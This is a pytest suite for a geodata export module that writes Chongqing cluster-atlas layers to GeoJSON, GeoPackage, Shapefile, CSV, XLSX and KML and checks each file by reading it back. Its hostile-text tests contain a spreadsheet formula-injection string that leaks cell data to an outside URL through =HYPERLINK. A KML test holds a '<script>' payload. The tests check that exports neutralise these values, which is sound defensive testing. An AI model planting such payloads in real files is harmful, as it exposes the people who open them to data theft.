"""``layers.exports``: every format written, then read back with GDAL (pyogrio, and the
``ogrinfo`` of Debian's gdal-bin), coordinates checked to 1 m in every CRS, filters,
refusals, and no half-written file after a failure."""

from __future__ import annotations

import csv
import json
import logging
import os
import re
import shutil
import subprocess
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely
from pyproj import CRS, Geod

from extract.taxonomy import Taxonomy
from geo.crs import WGS84, gcj02_to_wgs84, transformer
from geo.unknown import UnknownName
from layers.atlas import PLACE_LAYERS
from layers.build import build
from layers.exports import CRS_CHOICES, FORMATS, ExportError, export, shapefile_fields
from layers.exports import _formats as formats
from layers.stores import AtlasStore, open_store

GEOD = Geod(ellps="WGS84")
CHONGQING = (105.0, 28.0, 110.5, 32.5)
"""lon/lat bounds every exported WGS-84 coordinate lies in."""
DOCS = Path(__file__).resolve().parents[1] / "docs" / "SHAPEFILE_FIELDS.md"


@pytest.fixture(scope="session")
def store(tmp_path_factory) -> AtlasStore:
    """The atlas of the built-in corpus, built once into a temporary folder."""
    result = build(out=tmp_path_factory.mktemp("atlas"), force=True)
    return open_store(result.path)


@pytest.fixture(scope="session")
def places(store) -> gpd.GeoDataFrame:
    frames = [store.layer(name) for name in PLACE_LAYERS]
    return gpd.GeoDataFrame(pd.concat(frames, ignore_index=True), crs=WGS84).set_index("id")


@pytest.fixture(scope="session")
def ogrinfo():
    """Run Debian's ``ogrinfo``; it must be there in CI (``make test`` installs it)."""
    if shutil.which("ogrinfo") is None:
        if os.environ.get("CI"):
            pytest.fail("ogrinfo (Debian's gdal-bin) is missing; make test installs it")
        pytest.skip("ogrinfo (gdal-bin) is not installed")

    def run(*args: str) -> str:
        proc = subprocess.run(
            ["ogrinfo", "-ro", *args], capture_output=True, text=True, timeout=60, check=False
        )
        assert proc.returncode == 0, proc.stderr
        return proc.stdout

    return run


# --- helpers --------------------------------------------------------------------------


def to_wgs84(x: np.ndarray, y: np.ndarray, crs: str) -> tuple[np.ndarray, np.ndarray]:
    """Coordinates in an export CRS back in WGS-84 (GCJ-02 by the exact inverse)."""
    if crs == "GCJ-02":
        return gcj02_to_wgs84(x, y)
    return transformer(crs, WGS84).transform(x, y)


def gap_m(lon, lat, lon2, lat2) -> float:
    """Largest geodesic distance in metres between two sets of WGS-84 points."""
    _, _, dist = GEOD.inv(np.asarray(lon), np.asarray(lat), np.asarray(lon2), np.asarray(lat2))
    return float(np.max(dist, initial=0.0))


def geometry_gap_m(reference: gpd.GeoSeries, written: gpd.GeoSeries, crs: str) -> float:
    """Largest distance between matching vertices of WGS-84 ``reference`` and ``written``
    (in ``crs``), rings of both oriented alike first."""
    a = shapely.get_coordinates(shapely.orient_polygons(reference.values))
    b = shapely.get_coordinates(shapely.orient_polygons(shapely.force_2d(written.values)))
    assert a.shape == b.shape
    lon, lat = to_wgs84(b[:, 0], b[:, 1], crs)
    return gap_m(a[:, 0], a[:, 1], lon, lat)


def in_chongqing(lon, lat) -> bool:
    lon, lat = np.asarray(lon), np.asarray(lat)
    west, south, east, north = CHONGQING
    return bool(((lon > west) & (lon < east) & (lat > south) & (lat < north)).all())


def leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.startswith(".export-")]


# --- GeoJSON --------------------------------------------------------------------------


def test_geojson_follows_rfc_7946(store, places, tmp_path, ogrinfo):
    path = export(store, "places", "geojson", tmp_path / "places.geojson")
    text = path.read_text(encoding="utf-8")
    data = json.loads(text)
    assert data["type"] == "FeatureCollection" and "crs" not in data
    assert len(data["features"]) == len(places)
    meta = data["metadata"]
    assert meta["built"] == store.meta()["built"] and meta["crs"] == "EPSG:4326"
    assert {d["title"] for d in meta["source_documents"]} <= set(store.layer("documents")["title"])
    assert meta["source_documents"]
    for feature in data["features"]:
        assert feature["type"] == "Feature" and "crs" not in feature
        assert feature["id"] in places.index
        geom = feature["geometry"]
        if geom is None:  # not located: RFC 7946 §3.2 allows a null geometry
            assert places.loc[feature["id"], "lon"] is None or pd.isna(
                places.loc[feature["id"], "lon"]
            )
            continue
        assert geom["type"] in {"Point", "Polygon", "MultiPolygon"}
        coords = np.array(shapely.get_coordinates(shapely.geometry.shape(geom)))
        assert in_chongqing(coords[:, 0], coords[:, 1])
        polygons = {"Point": [], "Polygon": [geom["coordinates"]]}.get(
            geom["type"], geom["coordinates"]
        )
        for rings in polygons:
            exterior, *holes = (shapely.LinearRing(r) for r in rings)
            assert all(r[0] == r[-1] for r in rings)
            assert exterior.is_ccw, "RFC 7946 §3.1.6: exterior rings counter-clockwise"
            assert not any(h.is_ccw for h in holes), "holes clockwise"
    numbers = re.findall(r'"coordinates": (\[[^"]*\])', text)
    assert numbers and all(
        len(d) <= 7 for block in numbers for d in re.findall(r"\.(\d+)", block)
    ), "coordinates at 7 decimals or fewer"

    read = pyogrio.read_dataframe(path).set_index("id").loc[places.index]
    assert read.crs.to_epsg() == 4326
    assert geometry_gap_m(places.geometry, read.geometry, "EPSG:4326") < 1.0
    assert (read["name"] == places["name"]).all()
    assert f"Feature Count: {len(places)}" in ogrinfo("-so", "-al", str(path))


@pytest.mark.parametrize("fmt", ["geojson", "kml"])
@pytest.mark.parametrize("crs", ["EPSG:4544", "GCJ-02", "EPSG:4490"])
def test_wgs84_only_formats_refuse_other_crs(store, tmp_path, fmt, crs):
    with pytest.raises(ExportError, match=rf"WGS-84.*{crs}") as caught:
        export(store, "parks", fmt, tmp_path / "parks", crs=crs)
    expected = "GeoJSON is WGS-84 (EPSG:4326) by RFC 7946" if fmt == "geojson" else "KML is"
    assert str(caught.value).startswith(expected)
    assert "gpkg" in str(caught.value)
    assert list(tmp_path.iterdir()) == []


# --- GeoPackage and Shapefile in every CRS --------------------------------------------


@pytest.mark.parametrize("crs", CRS_CHOICES)
def test_gpkg_round_trips_in_every_crs(store, places, tmp_path, crs):
    path = export(store, "places", "gpkg", tmp_path / "atlas.gpkg", crs=crs)
    layers = dict(pyogrio.list_layers(path))
    assert {"places", "sectors", "place_sectors", "documents", "export_meta"} <= set(layers)
    read = pyogrio.read_dataframe(path, layer="places").set_index("id").loc[places.index]
    if crs == "GCJ-02":
        assert read.crs.name == "GCJ-02" and read.crs.to_epsg() is None
    else:
        assert read.crs.to_epsg() == int(crs.split(":")[1])
    assert geometry_gap_m(places.geometry, read.geometry, crs) < 1.0
    assert (read["name"] == places["name"]).all()
    meta = pyogrio.read_dataframe(path, layer="export_meta")
    meta = dict(zip(meta["key"], meta["value"], strict=True))
    assert meta["built"] == store.meta()["built"] and meta["crs"] == crs
    assert ("crs_note" in meta) == (crs == "GCJ-02")
    links = pyogrio.read_dataframe(path, layer="place_sectors")
    assert set(links["place_id"]) <= set(places.index)


def test_gpkg_is_read_by_ogrinfo(store, tmp_path, ogrinfo):
    path = export(store, "districts", "gpkg", tmp_path / "districts.gpkg", crs="EPSG:4544")
    out = ogrinfo("-so", str(path), "districts")
    assert "Feature Count: 41" in out and "CGCS2000" in out and "Multi Polygon" in out
    assert "渝中区" in ogrinfo("-q", str(path), "districts", "-where", "name = '渝中区'")


@pytest.mark.parametrize("crs", CRS_CHOICES)
def test_shapefile_round_trips_in_every_crs(store, places, tmp_path, crs):
    path = export(store, "places", "shp", tmp_path / "places.shp", crs=crs)
    assert path.name == "places_points.shp" and not (tmp_path / "places.shp").exists()
    parts = [tmp_path / "places_points.shp", tmp_path / "places_polygons.shp"]
    read = pd.concat([pyogrio.read_dataframe(p) for p in parts]).set_index("id")
    assert sorted(read.index) == sorted(places.index)
    read = read.loc[places.index]
    assert geometry_gap_m(places.geometry, read.geometry, crs) < 1.0
    assert (read["name"] == places["name"]).all(), "UTF-8 names intact"
    declared = CRS(pyogrio.read_info(parts[0])["crs"])
    if crs == "GCJ-02":
        assert "GCJ-02" in declared.name and declared.to_epsg() is None
    else:
        assert declared.equals(CRS(crs), ignore_axis_order=True)


def test_shapefile_files_fields_and_text(store, places, tmp_path, ogrinfo):
    export(store, "parks", "shp", tmp_path / "parks.shp")
    shapefiles = sorted(tmp_path.glob("*.shp"))
    assert [p.name for p in shapefiles] == ["parks_points.shp", "parks_polygons.shp"]
    mapping = pd.read_csv(tmp_path / "parks.fields.csv", dtype=str)
    cut_quotes = 0
    for shp in shapefiles:
        assert shp.with_suffix(".cpg").read_text().strip() == "UTF-8"
        assert shp.with_suffix(".prj").exists() and shp.with_suffix(".dbf").exists()
        info = pyogrio.read_info(shp)
        listed = mapping[mapping["file"] == shp.name]
        assert list(listed["field"]) == list(info["fields"])
        assert list(listed["type"]) == [t[3:] for t in info["ogr_types"]]
        assert all(len(f) <= 10 for f in info["fields"])
        read = pyogrio.read_dataframe(shp)
        assert read["quote"].str.encode("utf-8").str.len().max() <= 254
        cut = read[read["quote"].str.endswith("…")]
        full = places.loc[cut["id"], "quote"]
        assert all(f.startswith(c[:-1]) for c, f in zip(cut["quote"], full, strict=True))
        cut_quotes += len(cut)
    assert cut_quotes, "some quotes pass 254 bytes and are cut with …"
    assert set(mapping.loc[mapping["column"] == "source_document", "field"]) == {"source_doc"}
    about = (tmp_path / "parks.shp.txt").read_text(encoding="utf-8-sig")
    assert store.meta()["built"] in about and "parks_polygons.shp" in about
    out = ogrinfo("-q", "-al", str(tmp_path / "parks_polygons.shp"))
    assert "source_doc (String) = " in out and "rev_reason (String) = " in out
    assert any(f"name (String) = {name}" in out for name in places["name"])


def test_shapefile_mapping_is_documented(store):
    doc = DOCS.read_text(encoding="utf-8")
    for layer in ("parks", "districts"):
        frame = store.layer(layer)
        for column, field in shapefile_fields(c for c in frame.columns if c != "geometry").items():
            assert f"| `{column}` | `{field}` |" in doc, f"{column} → {field} not in {DOCS.name}"


def test_shapefile_of_one_geometry_type_is_not_split_and_stale_parts_go(store, tmp_path):
    export(store, "parks", "shp", tmp_path / "out.shp")
    assert (tmp_path / "out_polygons.shp").exists()
    export(store, "buildings", "shp", tmp_path / "out.shp")
    names = sorted(p.name for p in tmp_path.iterdir())
    assert names == sorted(
        ["out.shp", "out.shx", "out.dbf", "out.prj", "out.cpg", "out.fields.csv", "out.shp.txt"]
    )


def test_shapefile_field_names_are_stable_and_unique():
    fields = shapefile_fields(["source_document", "n_software-info", "n_legal-ip", "abcdefghijkl",
                               "abcdefghijXY", "ABCDEFGHIJZ"])  # fmt: skip
    assert fields == {
        "source_document": "source_doc", "n_software-info": "n_softinfo",
        "n_legal-ip": "n_legalip", "abcdefghijkl": "abcdefghij", "abcdefghijXY": "abcdefghi2",
        "ABCDEFGHIJZ": "ABCDEFGHI3",
    }  # fmt: skip


# --- CSV ------------------------------------------------------------------------------


@pytest.mark.parametrize("crs", CRS_CHOICES)
def test_csv_is_excel_ready_and_round_trips(store, places, tmp_path, crs):
    path = export(store, "places", "csv", tmp_path / "places.csv", crs=crs)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(places)
    assert {"lon", "lat", "x", "y", "crs", "wkt", "sectors_zh", "source_document", "quote"} <= set(
        rows[0]
    )
    table = pd.DataFrame(rows).set_index("id").loc[places.index]
    assert (table["name"] == places["name"]).all(), "Chinese intact"
    assert (table["crs"] == crs).all()
    unlocated = places.geometry.isna()  # test_places_not_located_… checks those rows
    table, located = table[~unlocated], places[~unlocated]
    lon, lat = table["lon"].astype(float), table["lat"].astype(float)
    assert gap_m(lon, lat, located["lon"], located["lat"]) < 0.01
    back = to_wgs84(table["x"].astype(float).to_numpy(), table["y"].astype(float).to_numpy(), crs)
    assert gap_m(*back, located["lon"], located["lat"]) < 1.0
    wkt = gpd.GeoSeries.from_wkt(table["wkt"])
    assert geometry_gap_m(located.geometry, wkt, crs) < 1.0
    about = (tmp_path / "places.csv.txt").read_text(encoding="utf-8-sig")
    assert store.meta()["built"] in about and "渝府发〔2024〕18号" in about and crs in about


def test_csv_is_read_by_gdal(store, places, tmp_path, ogrinfo):
    path = export(store, "places", "csv", tmp_path / "places.csv")
    read = pyogrio.read_dataframe(
        path, GEOM_POSSIBLE_NAMES="wkt", KEEP_GEOM_COLUMNS="NO", AUTODETECT_TYPE="YES"
    ).set_index("id").loc[places.index]  # fmt: skip
    assert (read["name"] == places["name"]).all()
    assert geometry_gap_m(places.geometry, read.geometry, "EPSG:4326") < 1.0
    out = ogrinfo(
        "-q", "-al", str(path), "-oo", "X_POSSIBLE_NAMES=lon", "-oo", "Y_POSSIBLE_NAMES=lat"
    )
    assert "POINT (" in out and places["name"].iloc[0] in out


def test_csv_leaves_out_boundaries_longer_than_an_excel_cell(store, tmp_path):
    path = export(store, "districts", "csv", tmp_path / "districts.csv")
    table = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    assert len(table) == 41 and table["wkt"].str.len().max() <= formats.EXCEL_CELL_LIMIT
    assert {"lon", "lat", "x", "y", "carriers"} <= set(table.columns)
    if (table["wkt"] == "").any():
        assert "Excel" in (tmp_path / "districts.csv.txt").read_text(encoding="utf-8-sig")


# --- XLSX -----------------------------------------------------------------------------


def test_xlsx_sheets_headers_and_sources(store, places, tmp_path, ogrinfo):
    path = export(store, "places", "xlsx", tmp_path / "places.xlsx", crs="EPSG:4544")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [*PLACE_LAYERS, "sectors", "sources"]
    parks = book["parks"]
    header = [c.value for c in parks[1]]
    assert header[:3] == ["名称 Name", "类型 Kind", "区县 District"]
    assert (
        "x (EPSG:4544)" in header
        and "原文 Quote" in header
        and "来源文件 Source document" in header
    )
    assert parks.freeze_panes == "B2" and parks.auto_filter.ref
    assert parks.column_dimensions["A"].width > 10
    names = {row[0] for row in parks.iter_rows(min_row=2, values_only=True)}
    assert names == set(places.loc[places["kind"] == "park", "name"])
    sources = [c for row in book["sources"].iter_rows(values_only=True) for c in row if c]
    assert "渝府发〔2024〕18号" in sources and store.meta()["built"] in sources
    assert "软件信息" in {row[1] for row in book["sectors"].iter_rows(values_only=True)}

    assert [name for name, _ in pyogrio.list_layers(path)] == book.sheetnames
    read = pyogrio.read_dataframe(path, layer="parks")
    assert set(read["名称 Name"]) == names
    read = read[read["x (EPSG:4544)"].notna()]  # a park not located has no x, y
    x = read["x (EPSG:4544)"].to_numpy(float)
    y = read["y (EPSG:4544)"].to_numpy(float)
    ids = places.loc[read["编号 ID"]]
    assert gap_m(*to_wgs84(x, y, "EPSG:4544"), ids["lon"], ids["lat"]) < 1.0
    assert "sources" in ogrinfo("-so", str(path))


def test_xlsx_districts_name_the_sector_counts(store, tmp_path):
    path = export(store, "districts", "xlsx", tmp_path / "d.xlsx", district="渝中")
    sheet = openpyxl.load_workbook(path)["districts"]
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2 and rows[1][0] == "渝中区"
    assert "软件信息 Software & information services" in rows[0]


# --- KML ------------------------------------------------------------------------------


def test_kml_for_google_earth(store, places, tmp_path, ogrinfo):
    path = export(store, "places", "kml", tmp_path / "places.kml")
    text = path.read_text(encoding="utf-8")
    assert store.meta()["built"] in text.split("<Folder", 1)[0], "provenance in the document"
    assert [name for name, _ in pyogrio.list_layers(path)] == list(PLACE_LAYERS)
    read = pd.concat([pyogrio.read_dataframe(path, layer=name) for name in PLACE_LAYERS])
    read = read.set_index("id").loc[places.index]
    assert (read["Name"] == places["name"]).all()
    assert geometry_gap_m(places.geometry, read.geometry, "EPSG:4326") < 1.0
    first = read.iloc[0]
    assert places["sectors_zh"].iloc[0] in first["description"]
    assert "<b>原文 Quote</b>" in first["description"]
    assert places["name"].iloc[0] in ogrinfo("-q", str(path), "parks")


class Patched:
    """A store whose parks carry markup in their text."""

    def __init__(self, store: AtlasStore) -> None:
        self.store = store

    def layer(self, name: str):
        frame = self.store.layer(name)
        if name == "parks":
            frame["name"] = "A<B & C"
            frame["quote"] = "<script>alert(1)</script>]]>"
        return frame

    def meta(self) -> dict[str, str]:
        return self.store.meta()

    def exists(self) -> bool:
        return True


def test_kml_escapes_html(store, tmp_path):
    path = export(Patched(store), "parks", "kml", tmp_path / "parks.kml")
    text = path.read_text(encoding="utf-8")
    assert "<script>" not in text and "&lt;script&gt;" in text
    read = pyogrio.read_dataframe(path)
    assert (read["Name"] == "A<B & C").all()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;]]&gt;" in read["description"].iloc[0]


# --- filters --------------------------------------------------------------------------


def test_sector_filter_takes_sub_sectors_and_umbrellas(store, places, tmp_path):
    path = export(store, "places", "geojson", tmp_path / "sw.geojson", sector="software-info")
    ids = {f["id"] for f in json.loads(path.read_text())["features"]}
    covered = Taxonomy.load().covers("software-info")
    expected = {i for i, s in places["sector_ids"].items() if covered & set(s.split("|"))}
    assert ids == expected and 0 < len(ids) < len(places)
    tagged = places.loc[sorted(ids)]
    assert tagged["sector_ids"].str.contains("software-info.industrial-software").any()
    assert tagged["raw_sectors"].str.contains("软信").any()
    for alias in ("软件信息", "软信", "软件信息服务业"):
        again = export(store, "places", "csv", tmp_path / "again.csv", sector=alias)
        assert set(pd.read_csv(again, encoding="utf-8-sig")["id"]) == ids


def test_district_and_kind_filters(store, places, tmp_path):
    for name in ("渝中区", "渝中", "重庆市渝中区"):
        path = export(store, "places", "csv", tmp_path / "yz.csv", district=name)
        table = pd.read_csv(path, encoding="utf-8-sig")
        assert set(table["district"]) == {"渝中区"}
        assert len(table) == (places["district"] == "渝中区").sum()
    path = export(store, "places", "csv", tmp_path / "b.csv", kind="building", district="渝中")
    table = pd.read_csv(path, encoding="utf-8-sig")
    assert set(table["kind"]) == {"building"}
    assert len(table) == ((places["kind"] == "building") & (places["district"] == "渝中区")).sum()


def test_empty_result_is_a_valid_file_with_a_warning(store, tmp_path, caplog):
    with caplog.at_level(logging.WARNING, logger="layers.exports"):
        path = export(store, "parks", "gpkg", tmp_path / "none.gpkg", district="城口县")
    assert "empty" in caplog.text
    assert pyogrio.read_info(path, layer="parks")["features"] == 0
    for fmt in FORMATS:
        written = export(store, "parks", fmt, tmp_path / f"none-{fmt}", district="城口")
        assert written.exists()
    assert json.loads((tmp_path / "none-geojson.geojson").read_text())["features"] == []
    assert leftovers(tmp_path) == []
    assert pyogrio.read_info(tmp_path / "none-shp_polygons.shp")["features"] == 0


# --- refusals and atomic writes -------------------------------------------------------


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"layer": "park"}, r"unknown layer 'park'; did you mean parks"),
        ({"fmt": "dxf"}, r"unknown format 'dxf'; choose one of geojson, gpkg"),
        ({"crs": "EPSG:3857"}, r"unknown CRS 'EPSG:3857'; choose one of EPSG:4326"),
        ({"out": "parks.txt"}, r"must end with \.gpkg"),
        ({"layer": "districts", "sector": "finance"}, r"districts layer has per-sector counts"),
    ],
)
def test_bad_arguments_are_refused_clearly(store, tmp_path, kwargs, message):
    args = {"layer": "parks", "fmt": "gpkg", "out": "parks.gpkg"} | kwargs
    out = tmp_path / args.pop("out")
    with pytest.raises(ExportError, match=message):
        export(store, args.pop("layer"), args.pop("fmt"), out, **args)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"sector": "软件信思"}, r"unknown sector '软件信思'; did you mean .*software-info"),
        ({"sector": "quantum-gastronomy"}, r"unknown sector 'quantum-gastronomy'"),
        ({"district": "火星区"}, r"unknown district: no administrative unit is called '火星区'"),
        ({"kind": "castle"}, r"unknown kind 'castle'; choose one of park, zone, building"),
    ],
)
def test_an_unknown_sector_district_or_kind_is_refused_with_the_closest_names(
    store, tmp_path, kwargs, message
):
    with pytest.raises(UnknownName, match=message):
        export(store, "parks", "gpkg", tmp_path / "parks.gpkg", **kwargs)
    assert list(tmp_path.iterdir()) == []


def test_no_atlas_yet(tmp_path):
    with pytest.raises(ExportError, match="clustermap build"):
        export(open_store(tmp_path / "atlas.gpkg"), "parks", "csv", tmp_path / "p.csv")
    assert list(tmp_path.iterdir()) == []


def test_crs_and_format_names_are_forgiving(store, tmp_path):
    path = export(store, "buildings", "SHP", tmp_path / "b", crs="4544")
    assert path == tmp_path / "b.shp" and "Gauss" in (tmp_path / "b.prj").read_text()
    path = export(store, "buildings", "csv", tmp_path / "g.csv", crs="gcj02")
    assert pd.read_csv(path, encoding="utf-8-sig")["crs"].eq("GCJ-02").all()


@pytest.mark.parametrize(("fmt", "breaks"), [("gpkg", "write_layer"), ("shp", "_field_table"),
                                             ("xlsx", "_readable"), ("csv", "write_text")])  # fmt: skip
def test_a_failed_export_leaves_the_previous_file_untouched(
    store, tmp_path, monkeypatch, fmt, breaks
):
    target = tmp_path / f"parks.{fmt}"
    export(store, "buildings", fmt, target)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    assert before and leftovers(tmp_path) == []

    def fail(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(formats, breaks, fail)
    with pytest.raises(RuntimeError, match="disk full"):
        export(store, "parks", fmt, target)
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before
    assert leftovers(tmp_path) == []


# --- hostile text ---------------------------------------------------------------------

HOSTILE = (
    "重庆市渝中区人民政府关于加快楼宇经济发展的通知\n"
    '=HYPERLINK("http://x?leak="&A2,"x")依托解放碑金融大厦、+SUM(1,2)大厦等重点楼宇，聚焦金融服务。\n'
    "@SUM(1+1)产业园重点发展软件信息。\n"
)
"""An uploaded document whose clauses (the ``quote`` column) and names start as
spreadsheet formulas would."""


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> AtlasStore:
    """The built-in corpus and the hostile document, built."""
    from geo import settings

    docs = tmp_path_factory.mktemp("docs")
    shutil.copytree(settings.CORPUS_DIR, docs, dirs_exist_ok=True)
    (docs / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    return open_store(build([docs], tmp_path_factory.mktemp("atlas"), force=True).path)


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_exports_of_hostile_text_hold_no_formula(hostile_store, tmp_path):
    from layers.coverage import analyse
    from layers.coverage import write as write_report

    csv_path = export(hostile_store, "places", "csv", tmp_path / "places.csv")
    xlsx_path = export(hostile_store, "places", "xlsx", tmp_path / "places.xlsx")
    analysis = analyse(hostile_store)
    coverage_csv = write_report(analysis, "csv", tmp_path / "coverage.csv")
    coverage_xlsx = write_report(analysis, "xlsx", tmp_path / "coverage.xlsx")

    cells = _csv_cells(csv_path)
    quoted = [c for c in cells if c.startswith("'=HYPERLINK(")]
    assert quoted, "the hostile clause is kept, neutralised"
    for path in (csv_path, coverage_csv):
        risky = [c for c in _csv_cells(path) if c.startswith(formats.FORMULA_STARTS)]
        assert all(_is_number(c) for c in risky), risky[:3]  # -3.5 stays a number

    for path in (xlsx_path, coverage_xlsx):
        book = openpyxl.load_workbook(path)
        every = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in every if c.data_type == "f"]
        texts = [c for c in every if isinstance(c.value, str) and c.value.startswith("=")]
        assert all(c.quotePrefix for c in texts)
    book = openpyxl.load_workbook(xlsx_path)
    clauses = [c.value for row in book["buildings"].iter_rows() for c in row]
    assert any(str(v).startswith('=HYPERLINK("http://x?leak="') for v in clauses), "text intact"
    sheet = book["buildings"]
    lon = [c.value for c in sheet[1]].index("经度 Lon (WGS-84)")
    assert all(isinstance(row[lon], float) for row in sheet.iter_rows(min_row=2, values_only=True))


def test_places_not_located_are_exported_without_coordinates(tmp_path):
    # One sentence naming a park of no known unit (龙兴 is a town in several provinces).
    source = Path(__file__).parent / "corpora" / "edge" / "one_sentence.txt"
    build([source], tmp_path / "atlas")
    store = open_store(tmp_path / "atlas" / "atlas.gpkg")
    path = export(store, "places", "csv", tmp_path / "p.csv", crs="EPSG:4544")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["name"] for r in rows] == ["龙兴工业园区"]
    assert all(rows[0][c] == "" for c in ("lon", "lat", "x", "y", "wkt"))
    data = json.loads(export(store, "places", "geojson", tmp_path / "p.geojson").read_text())
    assert [f["geometry"] for f in data["features"]] == [None]
    gpkg = pyogrio.read_dataframe(
        export(store, "places", "gpkg", tmp_path / "p.gpkg"), layer="places"
    )
    assert gpkg.geometry.isna().all() and list(gpkg["name"]) == ["龙兴工业园区"]
    book = openpyxl.load_workbook(export(store, "places", "xlsx", tmp_path / "p.xlsx"))
    header, row = list(book["parks"].iter_rows(values_only=True))[:2]
    assert row[header.index("x (EPSG:4326)")] is None
